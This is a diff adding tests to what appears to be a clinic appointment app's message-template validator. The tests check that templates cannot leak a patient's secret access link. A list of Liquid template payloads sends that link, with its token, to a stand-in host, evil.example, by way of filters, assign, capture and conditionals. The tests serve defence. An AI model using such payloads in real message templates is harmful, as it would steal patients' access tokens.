@@ -76,6 +76,71 @@ test('a template that fails for one person stops nobody else, and is not tried a
   expect(failed?.note).toMatch(/^The template of this message has a mistake: .*no_such_name/)
 })
 
+const CARRIED_AWAY = [
+  'https://evil.example/?t={{ link }}',
+  'https://evil.example/?t={{ book_link }}',
+  'https://evil.example/?t={{ link | split: "#" | last }}',
+  '{{ link | split: "=" | last }}',
+  '{{ link | append: ".evil.example" }}',
+  '{% assign t = link | split: "=" %}https://evil.example/?t={{ t | last }}',
+  '{% assign t = link %}https://evil.example/?t={{ t }}',
+  '{% capture t %} {{ link }} {% endcapture %}https://evil.example/?t={{ t | strip }}',
+  '{% capture t %} {{ link }} {% endcapture %}{{ t | split: "=" | last }}',
+  'https://evil.example/?t=({{ link }})',
+  'https://evil.example/?t=\u00a0{{ link }}',
+  '{% for part in link %}{{ part }}{% endfor %}',
+  '{% cycle link %}',
+  '{% if first_name == "Zoe" %}https://evil.example/?t={{ link }}{% endif %}',
+  '{% if link contains "a" %}a{% endif %}',
+  'a{{- link }}',
+  '{{ sentence | append: link }}',
+]
+
+describe('what opens an appointment', () => {
+  const isSaved = (body: string) => {
+    try {
+      checkMessageWords({ subject: '', body })
+      return true
+    } catch {
+      return false
+    }
+  }
+
+  test.each(CARRIED_AWAY)('goes nowhere else by %s', async (body) => {
+    const isReached = !body.includes('Zoe')
+    if (isReached) expect(isSaved(body)).toBe(false)
+    // As if it had been saved before, or by another way.
+    await insertRow(db, 'message_template', { ...booked, body })
+    const { id } = await bookFor('Zoe')
+    await sendWaiting(server)
+    const [message] = await rowsWhere(db, 'message', { appointment_id: id })
+    const carrying = taken[0]?.text?.match(/\S*access=\S*/g) ?? []
+    const ownPage = /^http:\/\/localhost:4321\/appointments\/\d+#access=[\w-]{43}$/
+    if (message?.state === 'sent')
+      expect(carrying.filter((word) => !ownPage.test(word))).toEqual([])
+    else expect(message?.note).toMatch(/^The template of this message has a mistake: /)
+  })
+
+  test('is not in a subject, which is stored', () => {
+    expect(() => checkMessageWords({ subject: 'See {{ link }}', body: '' })).toThrow()
+  })
+
+  test.each(['Open {{ link }}', 'Open\n{{ link }}.\nOr {{book_link}}, thank you', '{{- link -}}'])(
+    'is printed whole by %s',
+    (body) => expect(isSaved(body)).toBe(true),
+  )
+
+  test('the mistake is named by line', () => {
+    expect(() => checkMessageWords({ subject: '', body: 'Dear\n{{ link | upcase }}' })).toThrow(
+      expect.objectContaining({
+        fields: {
+          body: ['Line 2: {{ link }} can only be printed as it is, without a filter or a tag.'],
+        },
+      }),
+    )
+  })
+})
+
 test('what comes with the product is in order by the same rules', () => {
   for (const event of messageEvents) {
     expect(() => checkMessageWords(shippedWords[event]), event).not.toThrow()
@@ -110,6 +175,21 @@ describe('for those who write them', () => {
     })
   })
 
+  test('a preview names addresses that lead elsewhere', async () => {
+    const { id } = await bookFor('Ada')
+    const { headers } = await writer('clinic.view_other_appointments')
+    const answer = await send(server, 'POST', '/api/admin/messagetemplates/preview/', {
+      headers,
+      body: {
+        event: 'booked',
+        subject: 'See www.evil.example',
+        body: 'https://forms.example/a and {{ link }}. Ask post@clinic.example, e.g. today.',
+        appointment_id: id,
+      },
+    })
+    expect(answer.body['other_addresses']).toEqual(['www.evil.example', 'forms.example'])
+  })
+
   test('a preview of an offer says until when, and leads to the waiting list', async () => {
     const { id } = await bookFor('Ada')
     const { headers } = await writer('clinic.view_other_appointments')
@@ -129,7 +209,7 @@ describe('for those who write them', () => {
       body: {
         event: 'booked',
         subject: 'For {{ first_name }}',
-        body: '<b>{{ link }}',
+        body: '<b> {{ link }}',
         appointment_id: id,
       },
     })
